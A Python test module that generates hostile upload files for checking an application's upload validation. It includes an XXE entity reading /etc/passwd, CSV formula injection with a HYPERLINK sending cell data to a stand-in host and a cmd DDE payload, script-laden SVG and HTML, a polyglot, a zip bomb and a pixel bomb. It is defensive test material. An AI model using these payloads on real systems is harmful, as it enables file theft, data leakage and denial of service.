"""The hostile upload corpus, generated at run time (no binary is committed).

Each case gives, for the kind of upload path ("document" or "image"), a file name and its
bytes, and what the path must answer: accepted, or refused with the code of
`home.uploads.errors`. Files are built by the project's own file builders, Pillow, pypdf
and zipfile; the random bytes come from a seeded generator, so every run sends the same
corpus.
"""

import io
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

from PIL import Image
from pypdf import PdfWriter

from resources.file_builders import build_docx, build_pdf

DOCUMENT = "document"
IMAGE = "image"
ACCEPTED = "accepted"

# Every upload path of the suite gets this size limit (bytes): small, so that "just over"
# and "just under" stay cheap, and above every other file of the corpus.
SIZE_LIMIT = 100 * 1024


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    data: bytes
    expected: str  # ACCEPTED or the refusal code


def corpus_cases(kind: str) -> list[Case]:
    return [builder(kind) for builder in CASES]


def case_names() -> list[str]:
    return [builder.__name__ for builder in CASES]


@cache
def case_for(kind: str, name: str) -> Case:
    return next(builder(kind) for builder in CASES if builder.__name__ == name)


# --- building blocks --------------------------------------------------------------------


@cache
def sample_pdf() -> bytes:
    return build_pdf("Guide de l’accueil", ["L’accompagnement des jeunes vers l’emploi."] * 20)


@cache
def sample_png(size: tuple[int, int] = (64, 48)) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", size, "teal").save(output, format="PNG")
    return output.getvalue()


def zip_archive(files: dict[str, bytes]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return output.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of_zeros(width: int, height: int) -> bytes:
    """A real, whole black-and-white PNG: one bit per pixel, every row zero, so that even
    hundreds of millions of pixels compress to a few kB (a "pixel bomb")."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte + packed bits
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", data)
        + png_chunk(b"IEND", b"")
    )


def png_of_size(total: int) -> bytes:
    """A valid small PNG padded with a text chunk to exactly `total` bytes."""
    base = sample_png()
    padding = total - len(base) - 12 - len(b"Comment\x00")
    text = png_chunk(b"tEXt", b"Comment\x00" + b"a" * padding)
    return base[:-12] + text + base[-12:]  # before IEND


# --- the cases: one function per case, named after it ------------------------------------


def empty(kind):
    return Case("empty", "vide.pdf" if kind == DOCUMENT else "vide.png", b"", "empty")


def truncated(kind):
    if kind == DOCUMENT:
        return Case("truncated", "tronque.pdf", sample_pdf()[: len(sample_pdf()) // 2], "corrupt")
    png = sample_png((300, 200))
    return Case("truncated", "tronque.png", png[: len(png) // 2], "corrupt")


def random_bytes(kind):
    data = random.Random(14).randbytes(4096)  # noqa: S311 - a fixed corpus, not a secret
    return Case(
        "random_bytes", "hasard.pdf" if kind == DOCUMENT else "hasard.png", data, "mismatch"
    )


def encrypted_pdf(kind):
    writer = PdfWriter(clone_from=io.BytesIO(sample_pdf()))
    writer.encrypt(user_password="mot-de-passe", owner_password="proprio", algorithm="RC4-128")
    output = io.BytesIO()
    writer.write(output)
    return Case(
        "encrypted_pdf",
        "protege.pdf",
        output.getvalue(),
        "encrypted" if kind == DOCUMENT else "extension",
    )


def wrong_extension(kind):
    if kind == DOCUMENT:  # an image named as a PDF
        return Case("wrong_extension", "rapport.pdf", sample_png(), "mismatch")
    return Case("wrong_extension", "photo.png", sample_pdf(), "mismatch")  # a PDF named as an image


def polyglot(kind):
    """A file that is both a PDF (or PNG) and a ZIP archive, with a script inside."""
    payload = zip_archive({"lisez-moi.html": b"<script>alert('polyglotte')</script>"})
    base = sample_pdf() if kind == DOCUMENT else sample_png()
    return Case(
        "polyglot",
        "polyglotte.pdf" if kind == DOCUMENT else "polyglotte.png",
        base + payload,
        "polyglot",
    )


def svg_with_script(kind):
    data = (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>fetch('/admin/').then(r => r.text()).then(alert)</script></svg>"
    )
    return Case("svg_with_script", "dessin.svg", data, "extension")


def html_with_script(kind):
    data = b"<!doctype html><title>Programme</title><script>alert(document.cookie)</script>"
    return Case(
        "html_with_script", "programme.html", data, ACCEPTED if kind == DOCUMENT else "extension"
    )


def csv_with_formulas(kind):
    data = (
        b"nom;montant\n"
        b'=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez");1\n'
        b"+SUM(1+1)*cmd|' /C calc'!A0;2\n"
        b"-2+3;3\n"
        b"@SUM(1);4\n"
    )
    return Case(
        "csv_with_formulas", "formules.csv", data, ACCEPTED if kind == DOCUMENT else "extension"
    )


def zip_bomb_docx(kind):
    """A valid DOCX with one more part that expands from about 20 kB to 20 MB: more than
    `EXTRACTION_ZIP_MAX_RATIO` (100) times smaller than its content."""
    output = io.BytesIO(build_docx("Bombe", ["Un document piégé."]))
    with zipfile.ZipFile(output, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/remplissage.bin", b"\0" * (20 * 1024 * 1024))
    return Case(
        "zip_bomb_docx",
        "bombe.docx",
        output.getvalue(),
        "zip_ratio" if kind == DOCUMENT else "extension",
    )


def xxe_docx(kind):
    """A DOCX whose main part declares an external entity reading a server file."""
    source = io.BytesIO(build_docx("XXE", ["&xxe;"]))
    output = io.BytesIO()
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(output, "w") as archive:
        for entry in original.infolist():
            data = original.read(entry)
            if entry.filename == "word/document.xml":
                declaration, body = data.split(b"?>", 1)
                data = (
                    declaration
                    + b'?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                    + body.replace(b"&amp;xxe;", b"&xxe;")
                )
            archive.writestr(entry, data)
    return Case(
        "xxe_docx",
        "xxe.docx",
        output.getvalue(),
        "xml_entities" if kind == DOCUMENT else "extension",
    )


def pixel_bomb_png(kind):
    """20 000 × 20 000 pixels (400 million) in about 50 kB: refused by Pillow's guard."""
    return Case("pixel_bomb_png", "bombe.png", png_of_zeros(20_000, 20_000), "pixels")


def oversized_image(kind):
    """9 000 × 9 000 pixels (81 million): above every limit, below Pillow's own guard."""
    return Case("oversized_image", "immense.png", png_of_zeros(9_000, 9_000), "pixels")


def executable(kind):
    return Case(
        "executable", "programme.exe", b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00", "extension"
    )


def just_under_limit(kind):
    if kind == DOCUMENT:
        data = (b"Compte rendu de la reunion.\n" * (SIZE_LIMIT // 28 + 1))[: SIZE_LIMIT - 1]
        return Case("just_under_limit", "juste-sous.txt", data, ACCEPTED)
    return Case("just_under_limit", "juste-sous.png", png_of_size(SIZE_LIMIT - 1), ACCEPTED)


def just_over_limit(kind):
    if kind == DOCUMENT:
        data = (b"Compte rendu de la reunion.\n" * (SIZE_LIMIT // 28 + 1))[: SIZE_LIMIT + 1]
        return Case("just_over_limit", "juste-dessus.txt", data, "too_large")
    return Case("just_over_limit", "juste-dessus.png", png_of_size(SIZE_LIMIT + 1), "too_large")


CASES = [
    empty,
    truncated,
    random_bytes,
    encrypted_pdf,
    wrong_extension,
    polyglot,
    svg_with_script,
    html_with_script,
    csv_with_formulas,
    zip_bomb_docx,
    xxe_docx,
    pixel_bomb_png,
    oversized_image,
    executable,
    just_under_limit,
    just_over_limit,
]
